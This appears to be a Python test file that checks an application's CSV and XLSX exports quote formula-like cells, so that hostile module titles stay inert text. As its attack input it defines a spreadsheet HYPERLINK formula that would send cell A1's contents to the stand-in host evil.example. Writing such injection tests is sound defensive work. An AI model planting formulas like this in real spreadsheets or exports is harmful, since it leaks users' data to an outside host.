"""Exports carry no live formulas: hostile module titles and reasons stay text in CSV and XLSX."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from api_support import decision, force_confidence, matcher_of
from conftest import SAMPLE_CATALOGUE_YAML, ApiEnv
from outcome_matcher import services
from outcome_matcher.fileio import safe_cell, unquote_cell
from outcome_matcher.reports import build_report, render
from reports_support import NOW, STANDARD

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _hostile(env: ApiEnv, tmp_path: Path) -> None:
    """The sample catalogue with a formula as a module title, and a decision on that module."""
    text = SAMPLE_CATALOGUE_YAML.replace("title: Databases", f"title: '{LINK}'")
    (tmp_path / "evil.yaml").write_text(text, encoding="utf-8")
    services.add_catalogue(env.store, tmp_path / "evil.yaml", name=None, max_chars=2000)
    force_confidence(env, high=True)
    body = decision(reason="-1+1 @SUM(A1)")
    assert env.client.post("/decisions", json=body, headers=env.auth("reviewer")).status_code == 201


def test_safe_cell_quotes_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1") == "'" + start + "1"
        assert unquote_cell(safe_cell(start + "1")) == start + "1"
    assert safe_cell("Databases") == "Databases" and safe_cell(-1.5) == -1.5
    assert unquote_cell("'plain") == "'plain"


def test_report_xlsx_and_csv_hold_no_formula(api_env: ApiEnv, tmp_path: Path) -> None:
    _hostile(api_env, tmp_path)
    report = build_report(
        api_env.store,
        matcher_of(api_env),
        programme="BSC-SD",
        framework="demo",
        standard=STANDARD,
        now=NOW,
    )
    wb = load_workbook(io.BytesIO(render(report, "xlsx")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    titles = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert titles and all(t.startswith("'=") for t in titles)
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig"))))
    texts = [cell for row in rows for cell in row]
    assert "'" + LINK in texts
    assert not [t for t in texts if t.startswith(("=", "+", "@"))]


def test_decisions_export_is_quoted_and_imports_back(api_env: ApiEnv, tmp_path: Path) -> None:
    _hostile(api_env, tmp_path)
    response = api_env.client.get(
        "/decisions/export",
        params={"programme": "BSC-SD", "framework": "demo"},
        headers=api_env.auth("auditor"),
    )
    (row,) = list(csv.DictReader(io.StringIO(response.text)))
    assert row["Classification 2 PrefLabel"] == "'" + LINK
    assert row["Editorial note"] == "accepted: -1+1 @SUM(A1)"  # not at the start: harmless
    files = {"file": ("mapping.csv", response.content, "text/csv")}
    again = api_env.client.post(
        "/decisions/import",
        params={"framework": "demo"},
        files=files,
        headers=api_env.auth("reviewer"),
    )
    assert again.status_code == 200 and again.json()["unchanged"] == 1
